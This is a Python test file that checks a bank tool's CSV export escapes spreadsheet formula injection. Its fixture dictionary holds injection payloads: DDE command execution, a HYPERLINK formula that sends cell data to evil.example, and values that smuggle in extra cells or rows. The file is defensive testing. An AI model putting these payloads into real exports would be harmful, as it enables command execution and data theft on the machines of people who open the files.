"""A cell of a list as CSV is never a formula, and never more than one cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rbank_es.cli import main
from rbank_es.exchange.csv_text import FORMULA_BEGINS, csv_cell, csv_of
from tests.attacks.hostile_text import hostile_bank, steering
from tests.effort import one_in

FORMULAS = {
    "command": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "newline": "\n=1+1",
    "space": "  =1+1",
    "no-break-space": "\u00a0=1+1",
    "full-width": "\uff1d1+1",
    "quoted": '"=1+1',
    "separator": 'x";=1+1;"',
    "new-row": 'x"\n"=1+1',
}


@pytest.mark.parametrize("text", one_in(4, FORMULAS.values()), ids=FORMULAS)
def test_a_formula_is_a_text_in_every_cell(
    text: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    hostile_bank(tmp_path / "b", text).log.close()
    for command in ("runs", "items"):
        assert main([command, str(tmp_path / "b"), "--csv"]) == 0
        printed = capsysbinary.readouterr().out.decode()
        header, *rows = csv.reader(io.StringIO(printed, newline=""))
        assert len(rows) == 1 and len(rows[0]) == len(header)
        assert not any(cell.strip(" \u00a0").startswith(tuple(FORMULA_BEGINS)) for cell in rows[0]), rows


@given(st.text(max_size=30))
def test_any_text_is_one_cell_that_is_no_formula(text: str) -> None:
    made = csv_of(["a", "b"], [{"a": text, "b": 1}])
    [_, row] = csv.reader(io.StringIO(made, newline=""))
    assert len(row) == 2 and row[1] == "1"
    assert not row[0].strip(" \u00a0").startswith(tuple(FORMULA_BEGINS)) and not steering(made)


def test_numbers_stay_numbers() -> None:
    assert [csv_cell(value) for value in (-1, 2.5, None, True, ["a", "b"])] == [-1, 2.5, "", "yes", "a; b"]
